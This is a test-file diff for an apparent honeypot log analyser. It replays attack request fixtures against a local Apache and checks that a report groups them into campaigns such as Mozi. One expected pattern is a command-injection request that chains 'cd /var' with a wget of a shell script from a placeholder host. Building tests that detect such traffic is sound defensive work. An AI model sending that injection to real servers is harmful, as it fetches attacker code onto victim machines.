@@ -70,3 +70,37 @@ def test_report_reads_apache_escaped_request_lines(tmp_path):
     assert campaigns['GET /"/\\"/ HTTP/1.0'] == 1
     assert campaigns["GET /index.html?t=<v> HTTP/1.0"] == 1
     assert sum(campaigns.values()) == len(sent)
+
+
+#: Debian's stock ``vhost_combined`` (``%O`` from mod_logio, where ``common`` has ``%b``)
+#: and the other directives of Apache's that tcpfp parses: %I %S %X %P %{c}a %V and %{...}t.
+DEBIAN_FORMAT = ('%v:%p %h %l %u %t "%r" %>s %O "%{Referer}i" "%{User-Agent}i" '
+                 '%I %S %X %P %{c}a %V [%{%Y-%m-%d %H:%M:%S}t] %{msec}t %{end:usec_frac}t')
+
+
+def test_report_reads_apaches_own_directives(tmp_path):
+    with Apache(DEBIAN_FORMAT) as apache:
+        for line in MOZI + LOADER:
+            with socket.create_connection(("127.0.0.1", apache.port), timeout=3) as s:
+                s.sendall(line + b"\r\nHost: sensor.example:8080\r\nUser-Agent: u\r\n\r\n")
+                s.shutdown(socket.SHUT_WR)
+                deadline = time.monotonic() + 3
+                while time.monotonic() < deadline and s.recv(65536):
+                    pass
+        lines = apache.lines(len(MOZI + LOADER))
+    log = tmp_path / "apache.log"
+    log.write_text("\n".join(lines) + "\n")
+    parse = compile_format(DEBIAN_FORMAT).parse
+    first = parse(lines[0])
+    assert first["server_name_used"] == "sensor.example"
+    assert first["connection_status"] is None  # "-": closed after the answer (HTTP/1.0)
+    assert int(first["bytes_in_out"]) == int(first["bytes_in"]) + int(first["bytes_out"])
+    assert int(first["bytes_in"]) == len(MOZI[0]) + len(b"\r\nHost: sensor.example:8080\r\nUser-Agent: u\r\n\r\n")
+
+    result = CliRunner().invoke(app, ["report", "--json", "--format", DEBIAN_FORMAT, str(log)])
+    assert result.exit_code == 0, result.stderr
+    report = json.loads(result.stdout)
+    assert (report["summary"]["parsed"], report["summary"]["malformed"]) == (len(MOZI + LOADER), 0)
+    campaigns = {c["name"] or c["pattern"]: c["requests"] for c in report["campaigns"]}
+    assert campaigns["Mozi"] == 3
+    assert campaigns["GET /dl?cd+/var;wget+http://<ip>:<port>/x.sh HTTP/1.0"] == 2
